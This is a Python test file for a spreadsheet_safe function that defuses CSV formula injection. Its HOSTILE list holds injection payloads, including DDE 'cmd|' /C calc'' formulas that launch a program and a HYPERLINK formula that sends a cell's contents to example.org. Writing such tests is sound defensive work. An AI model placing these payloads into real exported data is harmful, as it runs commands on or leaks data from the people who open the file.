"""Laws of cells that a spreadsheet must not run: none begins like a formula, and what is harmless stays."""

from __future__ import annotations

import csv
import io
import math
import re

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from vae_anomaly.table.io import read_table, write_table
from vae_anomaly.table.spreadsheet import spreadsheet_safe

SIGNS = "=+-@\t\r\n＝＋－＠"
HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    '=1+1";=1+1',
    "name;=1+1",
    "name\t=1+1",
    "name\n=1+1",
]
HARMLESS = [
    "-12.50",
    "+49",
    "-1.234,5",
    "-1,234.5",
    "-5E3",
    "-.5",
    "",
    "a=b",
    "5-3",
    "C000042",
    "שלום",
    "😀",
    "it's",
    "1;2",
]


def safe(*cells):
    return spreadsheet_safe(pa.table({"cell": pa.array(cells, pa.string())}))["cell"].to_pylist()


def is_number(text):
    try:
        return math.isfinite(float(text.replace(".", "").replace(",", "")))
    except ValueError:
        return False


@pytest.mark.parametrize("cell", HOSTILE)
def test_no_hostile_cell_begins_like_a_formula_however_a_spreadsheet_cuts_it(cell):
    written = io.StringIO()
    csv.writer(written).writerow(["before", *safe(cell)])
    for delimiter in ",;\t":
        for row in csv.reader(re.split("[\r\n]", written.getvalue()), delimiter=delimiter):
            assert not any(part.lstrip(" \ufeff\u200b").startswith(tuple("=+-@＝")) for part in row)


@pytest.mark.parametrize("cell", HARMLESS)
def test_a_harmless_cell_stays(cell):
    assert safe(cell) == [cell]


@given(st.lists(st.none() | st.text(st.sampled_from(SIGNS + ";,.1a' \"é")) | st.text(), max_size=20))
def test_any_text_is_a_number_or_begins_with_no_sign_and_keeps_all_its_characters(cells):
    for before, after in zip(cells, safe(*cells), strict=True):
        if before is None:
            assert after is None
        elif after and after[0] in SIGNS:
            assert is_number(after)
        else:
            assert after.replace("'", "") == before.replace("'", "")


@given(st.text(st.sampled_from(SIGNS + ";1a' ")))
def test_what_is_safe_is_left_alone(cell):
    assert safe(*safe(cell)) == safe(cell)


def test_names_of_columns_are_cells_too():
    assert spreadsheet_safe(pa.table({"=a": [1], "b": [2]})).column_names == ["'=a", "b"]


def test_columns_that_are_no_text_stay_and_categories_are_text():
    plain = {
        "number": [-1.5, None],
        "whole": [-1, 2],
        "flag": [True, None],
        "list": [[1], [2]],
        "bytes": [b"=", b"\xff"],
    }
    table = pa.table(plain | {"category": pa.array(["=1", None]).dictionary_encode(), "utf8": [b"=1", b"x"]})
    found = spreadsheet_safe(table)
    assert found.select(list(plain)).equals(table.select(list(plain)))
    assert found["category"].to_pylist() == ["'=1", None]
    assert found["utf8"].to_pylist() == ["'=1", "x"]


@pytest.mark.parametrize("n_rows", [0, 1])
def test_tables_of_no_and_of_one_row(n_rows):
    table = pa.table({"cell": pa.array(["=1"] * n_rows, pa.string())})
    assert spreadsheet_safe(table)["cell"].to_pylist() == ["'=1"] * n_rows


def test_the_file_that_is_written_has_no_formula(tmp_path):
    write_table(spreadsheet_safe(pa.table({"cell": HOSTILE})), tmp_path / "safe.csv")
    assert read_table(tmp_path / "safe.csv")["cell"].to_pylist() == safe(*HOSTILE)
